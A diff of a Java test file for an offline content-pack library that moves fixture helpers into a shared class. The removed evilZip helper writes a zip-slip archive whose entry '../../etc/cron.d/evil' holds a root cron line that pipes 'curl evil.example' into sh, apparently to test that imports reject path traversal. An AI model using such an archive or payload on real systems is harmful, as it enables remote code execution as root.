@@ -10,16 +10,11 @@ import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
-import java.nio.file.attribute.FileTime;
-import java.time.Duration;
-import java.time.Instant;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
-import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
-import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
 import org.jsoup.Jsoup;
 import org.jsoup.nodes.Document;
 import org.jsoup.nodes.Element;
@@ -40,8 +35,6 @@ import org.offlinecommons.job.JobStatus;
 import org.offlinecommons.pack.LibrarySnapshot;
 import org.offlinecommons.pack.ManifestCodec;
 import org.offlinecommons.pack.PackArchive;
-import org.offlinecommons.pack.PackBuilder;
-import org.offlinecommons.pack.PackFixtures;
 import org.offlinecommons.pack.PackImporter;
 import org.offlinecommons.store.Library;
 import org.offlinecommons.store.ProgressListener;
@@ -85,9 +78,9 @@ class DrivePagesTest {
         pack("garden", "Garden", 2, stick.resolve("packs/garden-v2.zip"));
         pack("meadow", "Meadow", 1, stick.resolve("meadow-v1.zip"));
         pack("comet", "Comets", 1, stick.resolve("comet.zip"));
-        settled(Files.copy(river, stick.resolve("river.zip")));
-        settled(Files.writeString(stick.resolve(HOLIDAY), "holiday photos, honest"));
-        evilZip(stick.resolve("evil.zip"));
+        AdminFixtures.settled(Files.copy(river, stick.resolve("river.zip")));
+        AdminFixtures.settled(Files.writeString(stick.resolve(HOLIDAY), "holiday photos, honest"));
+        AdminFixtures.evilZip(stick.resolve("evil.zip"));
 
         jobs = new JobRunner();
         Drives drives = new Drives(library, DriveSettings.of(tmp.resolve("data"))
@@ -369,32 +362,7 @@ class DrivePagesTest {
     // --- Helpers
 
     static Path pack(String id, String title, long version, Path zip) throws IOException {
-        Path site = tmp.resolve("sources").resolve(id + "-" + version);
-        PackFixtures.write(site, "index.html", "<!doctype html><title>" + id + "</title><p>" + id + " version "
-                + version + "</p>");
-        PackFixtures.write(site, "lessons/one.md", "# Lesson one of " + id + "\n\nWords.\n");
-        PackFixtures.writeRandom(site, "media/clip.bin", 120_000, id.hashCode() + version);
-        Files.createDirectories(zip.getParent());
-        PackFixtures.build(site, new PackBuilder.Options(id, title, version, "en", null, null, null, null, null), zip);
-        return settled(zip);
-    }
-
-    /** Backdated, as a pack copied a while ago: it is read at once, not taken for a copy in progress. */
-    static Path settled(Path file) throws IOException {
-        Files.setLastModifiedTime(file, FileTime.from(Instant.now().minus(Duration.ofMinutes(5))));
-        return file;
-    }
-
-    static void evilZip(Path file) throws IOException {
-        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(file)) {
-            zip.putArchiveEntry(new ZipArchiveEntry("pack.json"));
-            zip.write("{}".getBytes(StandardCharsets.UTF_8));
-            zip.closeArchiveEntry();
-            zip.putArchiveEntry(new ZipArchiveEntry("../../etc/cron.d/evil"));
-            zip.write("* * * * * root curl evil.example | sh".getBytes(StandardCharsets.UTF_8));
-            zip.closeArchiveEntry();
-        }
-        settled(file);
+        return AdminFixtures.versionedPack(tmp.resolve("sources"), id, title, version, zip);
     }
 
     static HttpResponse<String> get(Client c, String path) throws Exception {
